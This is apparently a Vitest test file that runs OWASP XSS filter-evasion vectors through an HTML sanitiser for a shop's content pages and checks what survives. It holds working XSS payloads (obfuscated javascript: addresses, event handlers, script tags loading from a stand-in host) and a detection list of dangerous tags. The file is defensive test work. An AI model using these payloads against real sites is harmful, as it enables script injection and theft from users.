import { describe, expect, it } from "vitest";
import { sanitizeContentHtml } from "./sanitize.server.ts";

// The OWASP XSS filter-evasion cheat sheet, a representative vector of each kind: what is left
// must hold nothing that runs, loads or styles (no script, no event handler, no active address).

/** Whatever the sanitiser kept that could run or load something. */
function dangerIn(html: string): string[] {
  const found: string[] = [];
  const lower = html.toLowerCase();
  for (const tag of [
    "<script",
    "<style",
    "<iframe",
    "<svg",
    "<object",
    "<embed",
    "<link",
    "<meta",
    "<form",
    "<input",
    "<base",
    "<math",
    "<frame",
    "<body",
    "<xss",
    "<video",
    "<audio",
  ]) {
    if (lower.includes(tag)) found.push(tag);
  }
  if (/\son[a-z]+\s*=/i.test(html)) found.push("event handler");
  if (/\sstyle\s*=/i.test(html)) found.push("style attribute");
  for (const match of html.matchAll(/\s(?:href|src)="([^"]*)"/gi)) {
    const address = (match[1] ?? "").replace(/&#x?[0-9a-f]+;?|&[a-z]+;/gi, "").replace(/\s/g, "");
    if (!/^(?:https?:|mailto:|tel:|sms:|\/(?!\/))/i.test(address)) found.push(`address ${match[1]}`);
  }
  return found;
}

const VECTORS: Record<string, string> = {
  "a script tag": `<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>`,
  "a script tag with a slash for space": `<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>`,
  "a script split by a malformed tag": `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  "an unclosed script": `<SCRIPT SRC=//xss.example/.j>`,
  "a half-open image tag": `<IMG SRC="\`<javascript:alert>\`('XSS')"`,
  "a javascript: image": `<IMG SRC="javascript:alert('XSS');">`,
  "a javascript: image without quotes, mixed case": `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  "a javascript: address in decimal entities": `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">x</a>`,
  "a javascript: address in long decimal entities": `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">x</a>`,
  "a javascript: address in hex entities": `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">x</a>`,
  "a javascript: address split by a tab": `<a href="jav\tascript:alert('XSS');">x</a>`,
  "a javascript: address split by an encoded tab": `<a href="jav&#x09;ascript:alert('XSS');">x</a>`,
  "a javascript: address split by an encoded newline": `<a href="jav&#x0A;ascript:alert('XSS');">x</a>`,
  "a javascript: address after spaces and a meta character": `<a href=" &#14;  javascript:alert('XSS');">x</a>`,
  "a javascript: address with a NUL": `<a href="java\u0000script:alert('XSS')">x</a>`,
  "a vbscript: address": `<a href="vbscript:msgbox('XSS')">x</a>`,
  "a data: address": `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">x</a>`,
  "a data: image": `<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">`,
  "an event handler on an image": `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  "an event handler on a paragraph": `<p onmouseover="alert('xss')">hover</p>`,
  "an event handler on a body": `<BODY ONLOAD=alert('XSS')>`,
  "an svg with onload": `<svg/onload=alert('XSS')>`,
  "an svg with a script": `<svg><script>alert(1)</script></svg>`,
  "an iframe": `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  "an iframe with a document": `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  "a style tag with an expression": `<STYLE>@im\\port'\\ja\\vasc\\ript:alert("XSS")';</STYLE>`,
  "a style attribute with an expression": `<DIV STYLE="width: expression(alert('XSS'));">x</DIV>`,
  "a style attribute with a background image": `<DIV STYLE="background-image: url(javascript:alert('XSS'))">x</DIV>`,
  "a link to a style sheet": `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`,
  "a meta refresh": `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  "a base address": `<BASE HREF="javascript:alert('XSS');//">`,
  "an object": `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>`,
  "an embed": `<EMBED SRC="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" type="image/svg+xml">`,
  "a table background": `<TABLE BACKGROUND="javascript:alert('XSS')"><tr><td>x</td></tr></TABLE>`,
  "a form and its button": `<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>`,
  "a protocol-relative script address": `<a href="//xss.example/">x</a>`,
  "an XSS tag with an event": `<XSS STYLE="xss:expression(alert('XSS'))">`,
  "a comment hiding a script": `<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->`,
  "a CDATA section": `<![CDATA[<script>alert(1)</script>]]>`,
  "an attribute breaking out of quotes": `<img src="/x.png" alt="a" onerror="alert(1)" "">`,
  "a math element with a link": `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>`,
};

describe("sanitizeContentHtml against the OWASP filter-evasion vectors", () => {
  for (const [name, vector] of Object.entries(VECTORS)) {
    it(`leaves nothing active of ${name}`, () => {
      expect(dangerIn(sanitizeContentHtml(vector))).toEqual([]);
    });
  }

  it("removes a script's text with its tag", () => {
    expect(sanitizeContentHtml(`<p>Hi</p><script>alert("XSS")</script>`)).toBe("<p>Hi</p>");
  });

  it("drops a link to a javascript: address, text and all", () => {
    expect(sanitizeContentHtml(`<p>a<a href="javascript:alert(1)">Shop</a>b</p>`)).toBe("<p>ab</p>");
  });
});

describe("sanitizeContentHtml: what content may keep", () => {
  it("keeps prose, lists, tables and safe links as written", () => {
    const html =
      '<h2>Returns</h2><p>Send it back <strong>free</strong> within 60 days.</p><ul><li><a href="/c/faqs">FAQs</a></li></ul>' +
      '<table><thead><tr><th scope="col">Speed</th></tr></thead><tbody><tr><td>3-5 business days</td></tr></tbody></table>';
    expect(sanitizeContentHtml(html)).toBe(html);
  });

  it.each([
    ["http", "http://example.com/"],
    ["https", "https://example.com/a?b=c"],
    ["mailto", "mailto:help@example.com"],
    ["tel", "tel:1-800-555-0134"],
    ["sms", "sms:+18005550134"],
    ["a path", "/c/shipping-and-returns"],
  ])("keeps a %s link", (_, href) => {
    expect(sanitizeContentHtml(`<a href="${href}">x</a>`)).toBe(`<a href="${href}">x</a>`);
  });

  it.each(["ftp://example.com/", "file:///etc/passwd", "about:blank", "chrome://settings"])(
    "drops a link of another scheme (%s)",
    (href) => {
      expect(sanitizeContentHtml(`<p>a<a href="${href}">x</a>b</p>`)).toBe("<p>ab</p>");
    },
  );

  it("makes an h1 an h2 (the page's title is its one h1)", () => {
    expect(sanitizeContentHtml("<h1>Hello</h1>")).toBe("<h2>Hello</h2>");
  });

  it("keeps an image over https with its text alternative", () => {
    const html = '<img src="https://cdn.example.com/boot.png" alt="A boot" />';
    expect(sanitizeContentHtml(html)).toBe(html);
  });
});

describe("sanitizeContentHtml never nests a link inside a link", () => {
  const links = (html: string) => html.match(/<\/?a\b/g)?.join("") ?? "";

  it("ends a link left open where the next permitted link starts, as a browser reads it", () => {
    expect(
      sanitizeContentHtml(
        '<p><a href="/c/shipping">Shipping <a href="/c/returns">Returns</a> and more</a></p>',
      ),
    ).toBe('<p><a href="/c/shipping">Shipping </a><a href="/c/returns">Returns</a> and more</p>');
  });

  it("closes and reopens the tags between the two links around the second", () => {
    expect(sanitizeContentHtml('<a href="/x">x<strong>y<a href="/z">z</a>w</strong>v</a>')).toBe(
      '<a href="/x">x<strong>y</strong></a><strong><a href="/z">z</a>w</strong>v',
    );
  });

  it("keeps a link dropped for its address from taking the text of the next", () => {
    const html = sanitizeContentHtml('<a href="/a">a<a href="javascript:x">b</a><a href="/c">c</a></a>');
    expect(html).toBe('<a href="/a">a</a><a href="/c">c</a>');
  });

  it("leaves links side by side, and images and breaks inside a link, as written", () => {
    const html =
      '<p><a href="/a">a<br /><img src="https://cdn.example.com/a.png" alt="a" /></a> <a href="/b">b</a></p>';
    expect(sanitizeContentHtml(html)).toBe(html);
    expect(links(sanitizeContentHtml("<a href=/a><a href=/b><a href=/c>c</a></a></a>"))).toBe(
      "<a</a<a</a<a</a",
    );
  });
});

describe("sanitizeContentHtml drops images and links whose address holds % or a backslash", () => {
  it.each([
    ["a link with %", '<p>a<a href="/search?term=men%27s">b</a>c</p>', "<p>ac</p>"],
    ["a link with an encoded %", '<p>a<a href="/x&#37;2e">b</a>c</p>', "<p>ac</p>"],
    ["a link with a backslash", '<p>a<a href="/\\evil.example">b</a>c</p>', "<p>ac</p>"],
    ["an encoded javascript: in %", '<p>a<a href="java%0ascript:alert(1)">b</a>c</p>', "<p>ac</p>"],
    ["an image with %", '<p>a<img src="https://x.example/a%20b.png" />c</p>', "<p>ac</p>"],
    ["an image with a backslash", '<p>a<img src="https:\\\\x.example\\a.png" />c</p>', "<p>ac</p>"],
    ["an image with no address", "<p>a<img alt=x />c</p>", "<p>ac</p>"],
    ["an image over mailto", '<p>a<img src="mailto:a@b.example" />c</p>', "<p>ac</p>"],
  ])("drops %s", (_, html, expected) => {
    expect(sanitizeContentHtml(html)).toBe(expected);
  });
});
